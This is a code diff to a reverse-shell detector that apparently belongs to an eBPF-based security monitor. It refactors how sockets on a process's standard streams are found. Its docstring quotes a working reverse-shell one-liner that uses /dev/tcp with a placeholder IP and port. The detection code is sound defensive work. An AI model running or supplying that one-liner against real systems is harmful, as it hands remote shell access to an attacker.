@@ -1,8 +1,9 @@
 """`reverse_shell`: a shell whose standard input/output is a network socket.
 
 - `reverse_shell.socket_stdio`: a process duplicates a network socket (IPv4/IPv6) onto two
-  of its standard fds (`dup2(s, 0); dup2(s, 1)`), or a shell starts with its stdin/stdout
-  already on a socket (when the sensor reports the fd table).
+  of its standard fds (`dup2(s, 0); dup2(s, 1)`), or a shell starts with its stdin and its
+  stdout or stderr already on a socket (the eBPF sensor reports what fds 0-2 really are at
+  every exec, `Process.stdio`; recordings may carry `fd.types` instead).
 - `reverse_shell.dev_tcp`: a shell command redirecting its standard streams to
   `/dev/tcp/host/port` (`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`).
 - `reverse_shell.one_liner`: the classic one-liners, judged by the binary that runs them:
@@ -112,6 +113,17 @@ def _one_liner(binary: str, args: list[str]) -> str | None:
     return None
 
 
+def _stdio_sockets(event: Event) -> dict[int, str]:
+    """Standard fds of the process that are network sockets: fd -> remote `ip:port` (or
+    the fd type when only the types are known, from a recording's `fd.types`)."""
+    stdio = event.proc.stdio
+    if stdio:
+        return {f.num: f"{f.rip or '?'}:{f.rport if f.rport is not None else '?'}"
+                for f in stdio if f.type in _NET and f.num is not None and 0 <= f.num <= 2}
+    types = event.fd.types if event.fd is not None and event.fd.types else {}
+    return {n: types[n] for n in (0, 1, 2) if types.get(n) in _NET}
+
+
 class ReverseShellDetector(BuiltinDetector):
     """Shells wired to network sockets, /dev/tcp redirections and reverse-shell one-liners."""
 
@@ -184,10 +196,8 @@ class ReverseShellDetector(BuiltinDetector):
         if self.own.owns(proc):
             return []
         out: list[Detection] = []
-        fd_types = event.fd.types if event.fd is not None and event.fd.types else {}
-        if is_shell(proc) and fd_types.get(0) in _NET and (
-                fd_types.get(1) in _NET or fd_types.get(2) in _NET):
-            sockets = {n: fd_types[n] for n in (0, 1, 2) if fd_types.get(n) in _NET}
+        sockets = _stdio_sockets(event)
+        if is_shell(proc) and 0 in sockets and (1 in sockets or 2 in sockets):
             out += self._report_socket_stdio(event, sockets)
         command = command_of(proc)
         if command is None:
